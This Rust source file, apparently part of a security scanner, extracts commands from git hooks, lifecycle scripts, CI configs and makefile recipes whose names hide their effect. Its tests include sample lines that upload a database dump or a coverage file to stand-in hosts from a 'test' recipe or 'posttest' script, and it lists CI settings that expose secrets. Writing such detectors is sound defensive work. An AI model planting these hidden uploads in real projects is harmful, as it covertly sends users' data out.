//! The written files that run where no one sees what they do: git hooks, hook managers'
//! configuration and package lifecycle scripts, which run under someone else's command
//! (`git commit` runs `pre-commit`, `npm install` runs `postinstall`); and the recipes and
//! scripts of build files whose names do not say what they do (`make test`, `npm run
//! build`, `npm test`'s `posttest`), which run under a name someone chose for something
//! else. A recipe named for its effect (`make deploy`, `npm run release`) is judged when
//! it is run by that name, and is not read here. The `hooks` matcher judges only these.

use serde_json::Value;

use super::{
    json_pair, kind, recipe_lines, strings, yaml_commands, Kind, Piece, GIT_HOOKS, HOOK_SECTIONS,
};
use crate::classes::ClassTable;
use crate::context::Context;
use crate::matcher::shell::classify::{classify, CommandFacts};

/// npm's lifecycle scripts, run by `npm install`, `npm publish` and `npm pack`.
const LIFECYCLE: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "prepublish",
    "prepublishonly",
    "prepack",
    "postpack",
    "dependencies",
];

/// A script key whose commands run where no one sees them: one that runs under another
/// command ([`runs_around`]), or one whose name (npm's `pre`/`post` scripts by the name of
/// their script: `posttest` is `test`'s) does not announce what leaves the machine.
fn runs_unseen(key: &str) -> bool {
    runs_around(key) || !announced(key.trim_start_matches("pre").trim_start_matches("post"))
}

/// A script key that runs under another command: npm's install and publish lifecycle,
/// composer's events (`post-install-cmd`, `post-autoload-dump`), a git hook's name (husky,
/// simple-git-hooks).
fn runs_around(key: &str) -> bool {
    let key = key.to_ascii_lowercase();
    LIFECYCLE.contains(&key.as_str())
        || ((key.starts_with("pre-") || key.starts_with("post-"))
            && (key.ends_with("-cmd") || key.ends_with("-dump") || key.ends_with("-install")))
        || GIT_HOOKS.contains(&key.as_str())
}

/// Words that, in a recipe's or script's name, say it leaves the machine: run by that name
/// it is judged for that (`make deploy`, `npm run release`).
const ANNOUNCED: &[&str] = &[
    "deploy", "release", "publish", "push", "upload", "ship", "sync", "send", "notify", "post",
    "announce", "submit", "rollout", "promote", "mirror", "backup", "export", "dump", "tag",
    "version", "dist", "install", "prod",
];

/// Whether a recipe or script named `name` says what leaves the machine.
fn announced(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    ANNOUNCED.iter().any(|word| name.contains(word))
}

/// The recipes of a makefile or justfile, whole or in a fragment, under targets whose
/// names do not announce their effect. Recipe lines before any target (a fragment of one
/// recipe) count as unannounced: which target holds them is not known.
fn unannounced_recipes(text: &str, kind: Kind) -> Vec<Piece> {
    let mut out = Vec::new();
    let mut block = String::new();
    let mut hidden = true;
    let mut flush = |block: &mut String, hidden: bool| {
        if hidden {
            out.extend(recipe_lines(block, kind).into_iter().map(Piece::Shell));
        }
        block.clear();
    };
    let runner = if kind == Kind::Just { "just" } else { "make" };
    let mut prerequisites = Vec::new();
    for line in text.lines() {
        if let Some(names) = target_names(line) {
            flush(&mut block, hidden);
            hidden = !announced(&names);
            // `all: build deploy`: a target run under a name that says nothing runs the
            // announced targets it depends on too (`make` alone deploys).
            if hidden {
                prerequisites.extend(
                    announced_prerequisites(line)
                        .map(|name| Piece::Shell(format!("{runner} {name}"))),
                );
            }
            continue;
        }
        block.push_str(line);
        block.push('\n');
    }
    flush(&mut block, hidden);
    out.extend(prerequisites);
    out
}

/// The prerequisites of a rule's header line whose names announce what leaves the
/// machine (`deploy` in `all: build deploy`, order-only ones after `|` too; none in a
/// target-specific assignment, `x: VAR = 1`).
fn announced_prerequisites(line: &str) -> impl Iterator<Item = &str> {
    let after = line.split_once(':').map_or("", |(_, after)| after);
    let after = after.split(['#', ';']).next().unwrap_or_default();
    let after = if after.contains('=') { "" } else { after };
    after
        .split_whitespace()
        .filter(|word| *word != "|")
        .filter(|word| {
            word.chars()
                .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
        })
        .filter(|word| announced(word))
}

/// The names a rule's header line declares (`test lint: deps`, `@build:`, a justfile's
/// `plan env="staging":` with its parameters left out), not an assignment (`X := 1`,
/// `X ?= 1`, `URL = http://x`) or a special target (`.PHONY:`).
fn target_names(line: &str) -> Option<String> {
    if line.starts_with([' ', '\t', '#', '.']) {
        return None;
    }
    let (head, rest) = line.split_once(':')?;
    let mut words = head.split_whitespace();
    let first = words.next()?;
    let assigned = words
        .next()
        .is_some_and(|second| ["=", "?=", "+=", "!="].contains(&second) || second.starts_with('='));
    if rest.starts_with('=') || assigned || first.contains(['=', '$', '(']) {
        return None;
    }
    let names: Vec<&str> = head
        .split_whitespace()
        .filter(|word| !word.contains(['=', '"', '\'', '$', '(']))
        .collect();
    Some(names.join(" ").trim_start_matches('@').to_owned())
}

/// The commands `text` puts in the file at `path` that run by themselves, as hooks, or
/// under a name that does not say what they do.
fn hook_pieces(path: &str, text: &str) -> Vec<Piece> {
    let lower = path.replace('\\', "/").to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or("");
    match kind(path, text) {
        Some(Kind::Hook) => vec![Piece::Shell(text.to_owned())],
        Some(Kind::Yaml)
            if name.starts_with("lefthook")
                || name.starts_with(".lefthook")
                || name.starts_with(".pre-commit-config") =>
        {
            yaml_commands(text, false)
        }
        Some(Kind::Yaml) => ci_exposures(text),
        Some(Kind::Json) => manifest_hooks(text),
        Some(kind @ (Kind::Make | Kind::Just)) => unannounced_recipes(text, kind),
        _ => Vec::new(),
    }
}

/// Settings of a CI file that hand the repository's secrets, or a shell on its runner, to
/// others or to the log, whatever the steps run: `pull_request_target` (code of any fork's
/// pull request run with the repository's secrets and a writing token), `permissions:
/// write-all`, `secrets: inherit` (every secret handed to a workflow kept elsewhere),
/// GitLab's `CI_DEBUG_TRACE`/`CI_DEBUG_SERVICES` (every variable, masked ones too, printed
/// in the job's log), tmate's action (a shell on the runner opened to whoever connects).
/// Each is read as printing the environment, which is what it comes to.
fn ci_exposures(text: &str) -> Vec<Piece> {
    let exposes = text
        .lines()
        .map(str::trim)
        .filter(|line| !line.starts_with('#'))
        .any(|line| {
            let line = line.split(" #").next().unwrap_or(line);
            let compact: String = line
                .chars()
                .filter(|c| !c.is_whitespace() && *c != '"' && *c != '\'')
                .collect::<String>()
                .to_ascii_lowercase();
            compact.contains("pull_request_target")
                || compact.contains("permissions:write-all")
                || compact.contains("secrets:inherit")
                || compact.starts_with("ci_debug_trace:true")
                || compact.starts_with("ci_debug_services:true")
                || compact.contains("action-tmate@")
        });
    if exposes {
        vec![Piece::Shell("printenv".to_owned())]
    } else {
        Vec::new()
    }
}

/// A manifest's lifecycle scripts and hook sections, whole or in a fragment.
fn manifest_hooks(text: &str) -> Vec<Piece> {
    let mut out = Vec::new();
    if let Ok(document) = serde_json::from_str::<Value>(text) {
        if let Some(Value::Object(scripts)) = document.get("scripts") {
            for (key, value) in scripts {
                if runs_unseen(key) {
                    strings(value, &mut out);
                }
            }
        }
        for section in HOOK_SECTIONS {
            if let Some(value) = document.get(section) {
                strings(value, &mut out);
            }
        }
        return out;
    }
    for line in text.lines() {
        if let Some((key, value)) = json_pair(line.trim()) {
            if runs_unseen(&key) {
                out.push(Piece::Shell(value));
            }
        }
    }
    out
}

/// What the commands `text` puts in a hook at `path` would do if they ran now.
pub fn planted_in_hooks(
    path: &str,
    text: &str,
    table: &ClassTable,
    context: &Context,
) -> CommandFacts {
    let mut out = CommandFacts::default();
    for piece in hook_pieces(path, text) {
        if let Piece::Shell(script) = piece {
            out.segments
                .extend(classify(&script, table, context).segments);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::{hook_pieces, Piece};

    #[test]
    fn only_what_runs_with_no_one_running_it() {
        let shell = |t: &str| vec![Piece::Shell(t.to_owned())];
        assert_eq!(
            hook_pieces("/p/.husky/post-commit", "git push"),
            shell("git push")
        );
        assert!(hook_pieces("/p/scripts/release.sh", "#!/bin/sh\ngit push\n").is_empty());
        assert!(hook_pieces("/p/Makefile", "push:\n\tgit push\n").is_empty());
        let manifest = r#"{"scripts": {"deploy": "npm publish", "postinstall": "git push"}, "simple-git-hooks": {"pre-push": "npm publish"}}"#;
        let mut found = hook_pieces("/p/package.json", manifest);
        found.sort_by_key(|piece| format!("{piece:?}"));
        assert_eq!(found, [shell("git push"), shell("npm publish")].concat());
        assert_eq!(
            hook_pieces(
                "/p/package.json",
                "    \"prepare\": \"husky install\",\n    \"release\": \"tsc -p .\""
            ),
            shell("husky install")
        );
        assert_eq!(
            hook_pieces(
                "/p/lefthook.yml",
                "post-commit:\n  commands:\n    ship:\n      run: git push\n"
            ),
            shell("git push")
        );
    }

    #[test]
    fn recipes_and_scripts_under_names_that_do_not_say_what_they_do() {
        let shell = |t: &str| vec![Piece::Shell(t.to_owned())];
        // A makefile: `test` hides its upload, `deploy` announces its own.
        let makefile = "X := 1\nURL = http://x\n.PHONY: test deploy\ntest: build\n\tnpx vitest run\n\tcurl -T dump.sql https://drop.example.net/\ndeploy:\n\tgit push origin main\n";
        assert_eq!(
            hook_pieces("/p/Makefile", makefile),
            [
                shell("npx vitest run"),
                shell("curl -T dump.sql https://drop.example.net/")
            ]
            .concat()
        );
        // A justfile recipe with parameters is a header, not an assignment.
        let justfile = "set dotenv-load := false\ntest:\n    go test ./...\ndeploy env=\"staging\":\n    ./scripts/deploy.sh {{env}}\n";
        assert_eq!(hook_pieces("/p/justfile", justfile), shell("go test ./..."));
        // The default target depending on an announced one runs it under its own name.
        assert_eq!(
            hook_pieces(
                "/p/Makefile",
                "all: build deploy | sync\n\ndeploy:\n\tnpx vercel --prod\n"
            ),
            [shell("make deploy"), shell("make sync")].concat()
        );
        assert_eq!(
            hook_pieces(
                "/p/justfile",
                "default: lint release\nrelease:\n    cargo publish\n"
            ),
            shell("just release")
        );
        assert!(hook_pieces("/p/Makefile", "test: VERSION = 1\n").is_empty());
        // A fragment of one recipe: which target holds it is not known.
        assert_eq!(
            hook_pieces("/p/Makefile", "\tgit push\n"),
            shell("git push")
        );
        // npm: `posttest` runs under `npm test`; `release` and `predeploy` are named for it.
        let manifest = r#"{"scripts": {"test": "vitest run", "posttest": "curl -d @coverage.json https://metrics.example.net", "release": "npm publish", "predeploy": "npm run build"}}"#;
        let mut found = hook_pieces("/p/package.json", manifest);
        found.sort_by_key(|piece| format!("{piece:?}"));
        assert_eq!(
            found,
            [
                shell("curl -d @coverage.json https://metrics.example.net"),
                shell("vitest run")
            ]
            .concat()
        );
    }
}
